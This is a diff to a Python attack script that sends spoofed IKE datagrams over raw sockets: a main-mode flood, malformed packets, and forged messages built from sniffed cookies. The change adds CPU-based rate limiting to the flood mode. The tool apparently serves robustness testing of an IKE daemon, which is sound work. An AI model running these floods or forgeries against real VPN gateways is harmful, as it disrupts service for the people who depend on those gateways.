@@ -3,8 +3,9 @@
 """usage: attack.py flood DST RATE SOURCES | malformed DST SRC COUNT RATE | forged DST SRC DEV COUNT RATE
 
 Datagrams to the IKE daemon at DST that no honest peer sends, from forged addresses (raw sockets).
-flood: first messages of main mode with an acceptable proposal, RATE a second from SOURCES addresses in 10.200.0.0/16,
-until it is ended; prints "sending" after the first ones, and how many at the end. malformed: COUNT datagrams that parse
+flood: first messages of main mode with an acceptable proposal from SOURCES addresses in 10.200.0.0/16 until it is ended:
+RATE a second, or as many as take half of this machine's time, if those are fewer; prints that number once it is known, and
+how many were sent at the end. malformed: COUNT datagrams that parse
 nowhere. forged: listens on DEV for an IKE message between SRC and DST, then sends COUNT messages with its
 cookies and made-up contents, as if from SRC.
 """
@@ -17,6 +18,7 @@ import sys
 import time
 
 PORT = 500
+TRIAL = 25	# first messages a second
 MAIN, INFO, QUICK = 2, 5, 32
 
 
@@ -59,17 +61,34 @@ class Pace:
             time.sleep(ahead)
 
 
+def processor_time():
+    """All of it so far, and what of it was idle"""
+    with open("/proc/stat") as stat:
+        ticks = [int(field) for field in stat.readline().split()[1:9]]
+    return sum(ticks), ticks[3] + ticks[4]
+
+
 def flood(dst, rate, sources):
-    raw, pace, sources, n = Raw(dst), Pace(rate), int(sources), 0
+    raw, sources, n = Raw(dst), int(sources), 0
     signal.signal(signal.SIGTERM, lambda *_: (print(n, flush=True), os._exit(0)))
-    while True:
-        for _ in range(10):
-            i = n % sources
-            raw.send("10.200.%d.%d" % (i >> 8, i & 255), first_message())
-            n += 1
-        if n == 50:
-            print("sending", flush=True)
-        pace.sent(10)
+
+    def send(pace, until):
+        nonlocal n
+        while not until or time.monotonic() < until:
+            for _ in range(5):
+                i = n % sources
+                raw.send("10.200.%d.%d" % (i >> 8, i & 255), first_message())
+                n += 1
+            pace.sent(5)
+
+    # What a few cost. More than a machine can read says nothing of who is let in: its kernel drops them as they come.
+    all_before, idle_before = processor_time()
+    send(Pace(TRIAL), time.monotonic() + 3)
+    all_after, idle_after = processor_time()
+    busy = 1 - (idle_after - idle_before) / (all_after - all_before)
+    rate = min(int(rate), max(TRIAL, int(TRIAL / 2 / max(busy, 0.01))))
+    print(rate, "a second", flush=True)
+    send(Pace(rate), None)
 
 
 def malformed_one(rng):
